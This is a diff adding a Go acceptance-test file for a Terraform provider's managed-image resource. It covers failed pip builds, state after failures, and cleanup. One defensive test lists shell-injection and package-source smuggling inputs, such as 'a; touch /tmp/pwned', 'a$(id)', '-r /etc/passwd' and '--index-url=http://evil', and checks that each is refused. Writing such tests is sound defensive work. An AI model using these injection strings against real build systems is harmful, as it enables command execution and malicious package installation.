@@ -1,0 +1,201 @@
+package acctest_test
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/google/go-containerregistry/pkg/v1/validate"
+
+	"github.com/managed-images/terraform-provider-rime/internal/acctest"
+	"github.com/managed-images/terraform-provider-rime/internal/sandbox/oci"
+	"github.com/managed-images/terraform-provider-rime/internal/sandbox/pypi"
+)
+
+// imageOf is the configuration of an image with these pip requirements ("numpy", "numpy>=1,<2").
+func imageOf(name string, requirements ...string) string {
+	return imageWith(name, "", requirements...)
+}
+
+// imageWith is imageOf with further lines of configuration.
+func imageWith(name, settings string, requirements ...string) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "resource \"rime_managed_image\" %q {\n  name             = %q\n  python_version   = \"3.11\"\n  %s\n  pip_requirements = [\n", name, name, settings)
+	for _, r := range requirements {
+		end := strings.IndexAny(r+"=", "=<>~!")
+		fmt.Fprintf(&b, "    { name = %q, version_specifier = %q },\n", r[:end], r[end:])
+	}
+	b.WriteString("  ]\n}\n")
+	return b.String()
+}
+
+// errorsOf are the errors in an output by the image that they are about.
+func errorsOf(r acctest.Result) map[string]acctest.Result {
+	found := map[string]acctest.Result{}
+	for _, text := range strings.Split(r.Output, "\nError: ")[1:] {
+		_, rest, _ := strings.Cut(text, "with rime_managed_image.")
+		name, _, _ := strings.Cut(rest, ",")
+		found[name] = acctest.Result{Output: text}
+	}
+	return found
+}
+
+func TestManagedImage_failedBuilds(t *testing.T) {
+	t.Parallel()
+	const exclude = "the requirements exclude each other"
+	cases := map[string]struct {
+		requirements []string
+		// says is in the diagnostic, whatever the breaks of lines.
+		says []string
+	}{
+		"unknown": {[]string{"tiny-model", "no-such-lib"}, []string{
+			`pip_requirements["no-such-lib"]`,
+			"ERROR: Could not find a version that satisfies the requirement no-such-lib (from versions: none)", // pip's own words
+			"Last lines of the log:", "ERROR: No matching distribution found for no-such-lib",
+		}},
+		"unsatisfiable": {[]string{"tiny-model>=99"}, []string{`pip_requirements["tiny-model"]`, "(from versions: 1.0, 1.1, 2.0)"}},
+		"conflict":      {[]string{"needs-other", "needs-old-other"}, []string{exclude, "needs-old-other 1.0 depends on other-lib<1.0", "needs-other 1.0 depends on other-lib>=1.0"}},
+		"broken":        {[]string{"broken-build"}, []string{`pip_requirements["broken-build"]`, "does not build in the base image", "the C compiler is missing"}},
+		"line":          {[]string{"endless-line"}, []string{`pip_requirements["endless-line"]`, "xxxxxxxxxx… [", " bytes more]"}},
+		"lines":         {[]string{"many-lines"}, []string{`pip_requirements["many-lines"]`, "after a hundred thousand lines"}},
+		"noise":         {[]string{"binary-noise"}, []string{`pip_requirements["binary-noise"]`, `\u0000\xff\xfe`, "after the noise"}},
+	}
+	var broken, mended strings.Builder
+	for name, c := range cases {
+		broken.WriteString(imageOf(name, c.requirements...))
+		mended.WriteString(imageOf(name, "tiny-model"))
+	}
+	registry, w := setup(t, broken.String())
+
+	failed := fails(t, w, []string{"apply", "-auto-approve"})
+	if strings.ContainsFunc(failed.Output, func(r rune) bool { return r == '\x1b' || r == '\x00' || r == '\x07' || r == '\uFFFD' }) {
+		t.Error("the noise of a build reached the terminal")
+	}
+	errors := errorsOf(failed)
+	for name, c := range cases {
+		says := errors[name]
+		shows(t, says, append(c.says, "Managed Image Build Failed", "Building managed image \""+name+"\"", `in the step "install pip requirements"`,
+			"Correct the requirements", "Managed image: "+name, "Class: user_input")...)
+		if len(says.Output) > 64<<10 {
+			t.Errorf("the message about %s has %d bytes", name, len(says.Output))
+		}
+		image, ok := w.Image(name)
+		if !ok || image.Text("status") != "failed" || image.Text("build", "status") != "failed" || image.Text("build", "error") == "" || image.Text("image_uri") != "" {
+			t.Errorf("the state of %s after the failure: %t %v", name, ok, image)
+		}
+	}
+
+	w.Write("main.tf", mended.String())
+	w.Apply()
+	w.PlanIsEmpty()
+	for name := range cases {
+		if image, _ := w.Image(name); image.Text("status") != "ready" || image.Tainted {
+			t.Errorf("%s is not repaired: %v", name, image)
+		}
+	}
+	w.Destroy()
+	for name := range cases {
+		expectNothingLeft(t, registry, name)
+	}
+}
+
+// A first build that failed leaves a record of its failure, and a destroy leaves nothing.
+func TestManagedImage_failedBuildDestroyed(t *testing.T) {
+	t.Parallel()
+	registry, w := setup(t, imageOf("gone", "no-such-lib"))
+	fails(t, w, []string{"apply", "-auto-approve"}, `pip_requirements["no-such-lib"]`)
+	if tags := repositoryOf(t, registry.Host, "gone").tags(); len(tags) != 1 || tags[0] != recordTag {
+		t.Errorf("the registry has the tags %q, want only the record's", tags)
+	}
+	planShows(t, w, "rime_managed_image.gone is tainted, so must be replaced")
+	w.Destroy()
+	expectNothingLeft(t, registry, "gone")
+}
+
+func TestManagedImage_failedUpdate(t *testing.T) {
+	t.Parallel()
+	registry, w := setup(t, imageOf("model", "tiny-model<2"))
+	w.Apply()
+	before, _ := w.Image("model")
+	repo := repositoryOf(t, registry.Host, "model")
+
+	w.Write("main.tf", imageOf("model", "tiny-model<2", "no-such-lib"))
+	fails(t, w, []string{"apply", "-auto-approve"}, `pip_requirements["no-such-lib"]`)
+	failed, _ := w.Image("model")
+	if failed.Tainted || failed.Text("status") != "failed" || failed.Text("build", "status") != "failed" {
+		t.Errorf("the state after the failed update: %v", failed)
+	}
+	// What was published stays, under its digest and its tag, and the state still leads there.
+	for _, reference := range []string{before.Text("image_digest"), before.Text("rime_tag")} {
+		if err := validate.Image(repo.image(reference)); err != nil {
+			t.Errorf("%s cannot be pulled after the failed update: %v", reference, err)
+		}
+	}
+	if failed.Text("image_uri") != before.Text("image_uri") {
+		t.Errorf("image_uri was %q and is %q, though nothing new was published", before.Text("image_uri"), failed.Text("image_uri"))
+	}
+
+	// The next plan repairs: with the same configuration it builds again, with the old one it goes back.
+	planShows(t, w, "will be updated in-place", `-> "its last build failed in the step \"install pip requirements\": `)
+	fails(t, w, []string{"apply", "-auto-approve"}, `pip_requirements["no-such-lib"]`)
+	w.Write("main.tf", imageOf("model", "tiny-model<2"))
+	planShows(t, w, "will be updated in-place", "pip requirements changed: - no-such-lib")
+	w.Apply()
+	w.PlanIsEmpty()
+	after, _ := w.Image("model")
+	if err := validate.Image(repo.image(after.Text("image_digest"))); err != nil {
+		t.Error(err)
+	}
+	w.Destroy()
+	expectNothingLeft(t, registry, "model")
+}
+
+// No text that a shell could understand gets past the plan: the registry is not even asked.
+func TestManagedImage_metacharacters(t *testing.T) {
+	t.Parallel()
+	registry := acctest.StartRegistry(t, oci.Options{})
+	w := acctest.Embedded{Registry: registry.Host, Index: acctest.StartIndex(t, pypi.Simple("tiny-model", "1.0"))}.NewWorkspace(t)
+	var config strings.Builder
+	texts := []string{
+		"a; touch /tmp/pwned", "a$(id)", "a`id`", "a|id", "a&&id", "a>/etc/passwd", "a\nRUN id", "a\r\nb", "--index-url=http://evil", "a @ http://evil/a.whl",
+		"-r /etc/passwd", "a'b", `a"b`, "a\\", "${IFS}", "a#b", "git+https://evil/a", "../a", "a\x00b", "a\u202eb",
+	}
+	for i, text := range texts {
+		quoted := strings.NewReplacer("${", "$${", "%{", "%%{").Replace(hclQuote(text))
+		fmt.Fprintf(&config, "resource \"rime_managed_image\" \"n%d\" {\n  name = \"n%d\"\n  pip_requirements = [{ name = %s }]\n}\n", i, i, quoted)
+		fmt.Fprintf(&config, "resource \"rime_managed_image\" \"v%d\" {\n  name = \"v%d\"\n  pip_requirements = [{ name = \"tiny-model\", version_specifier = %s }]\n}\n", i, i, quoted)
+		fmt.Fprintf(&config, "resource \"rime_managed_image\" \"p%d\" {\n  name = \"p%d\"\n  package_requirements = [{ name = %s, package_type = \"apt\" }]\n}\n", i, i, quoted)
+	}
+	w.Write("main.tf", config.String())
+	r := fails(t, w, []string{"plan"})
+	refused := errorsOf(r)
+	for i, text := range texts {
+		for _, kind := range []string{"n", "v", "p"} {
+			if says, ok := refused[fmt.Sprintf("%s%d", kind, i)]; !ok || !strings.Contains(says.Output, "Invalid") {
+				t.Errorf("%q as %s was not refused: %s", text, kind, says.Output)
+			}
+		}
+	}
+	if requests := registry.Requests(); len(requests) > 0 {
+		t.Errorf("the registry was asked: %v", requests)
+	}
+}
+
+// hclQuote writes a text as a string of the configuration language.
+func hclQuote(text string) string {
+	var b strings.Builder
+	b.WriteByte('"')
+	for _, r := range text {
+		switch {
+		case r == '"' || r == '\\':
+			b.WriteRune('\\')
+			b.WriteRune(r)
+		case r < ' ' || r > '~':
+			fmt.Fprintf(&b, `\u%04x`, r)
+		default:
+			b.WriteRune(r)
+		}
+	}
+	b.WriteByte('"')
+	return b.String()
+}
